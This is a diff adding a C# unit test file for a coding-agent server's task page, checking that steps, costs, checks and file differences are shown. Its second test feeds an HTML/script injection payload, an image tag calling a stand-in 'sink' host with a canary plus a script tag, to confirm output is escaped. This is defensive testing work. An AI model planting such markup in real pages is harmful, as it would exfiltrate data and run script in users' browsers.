@@ -1,0 +1,40 @@
+using CodeAssist.Core.Agent;
+using CodeAssist.Core.Agent.Actions;
+using CodeAssist.Core.Agent.Models;
+using CodeAssist.Core.Review.Changes;
+using CodeAssist.Core.Spending;
+using CodeAssist.Server.Features.Delegating;
+
+namespace CodeAssist.Server.Tests.Features.Delegating;
+
+/// <summary>The page of a task shows what happened, and nothing in it is more than text.</summary>
+public sealed class TaskPageTests
+{
+    [Fact]
+    public void A_task_is_told_with_steps_cost_checks_and_difference()
+    {
+        var call = new AgentCall("1", "read_file", "{}") { Action = new AgentAction.Read("a.py", null) };
+        TranscriptEntry[] transcript =
+        [
+            new TranscriptEntry.Chosen("openai/big", "openai/big, as you allowed."),
+            new TranscriptEntry.Step(1, "openai/big", "Look.", [new CallRecord(call, CallEnd.Done, "text", [])], new ModelSpending(new TokenCounts(1_000, 0, 100), 0.003m)),
+            new TranscriptEntry.Checked(IsSound: true, "npm test"),
+        ];
+
+        var page = TaskPage.Of("Make it add.", transcript, new AgentEnd(AgentEndReason.Finished, "It is done."), "Adds.", [new FileDifference("a.py", ChangeKind.Modified, "-a - b\n+a + b")]);
+
+        Assert.All(["Make it add.", "as you allowed", "Read a.py", "1,100", "$0.003", "npm test", "It is done."], text => Assert.Contains(text, page, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Case_12_what_models_and_files_say_is_text()
+    {
+        const string Evil = "<img src=https://sink/?d=CANARY><script>evil()</script>";
+        var step = new TranscriptEntry.Step(1, Evil, Evil, [new CallRecord(new AgentCall("1", Evil, "{}"), CallEnd.Faulty, Evil, [])], ModelSpending.None);
+
+        var page = TaskPage.Of(Evil, [step, new TranscriptEntry.Checked(IsSound: false, Evil)], new AgentEnd(AgentEndReason.Stuck, Evil), Evil, [new FileDifference(Evil, ChangeKind.Added, Evil)]);
+
+        Assert.DoesNotContain("<img", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("<script", page, StringComparison.Ordinal);
+    }
+}
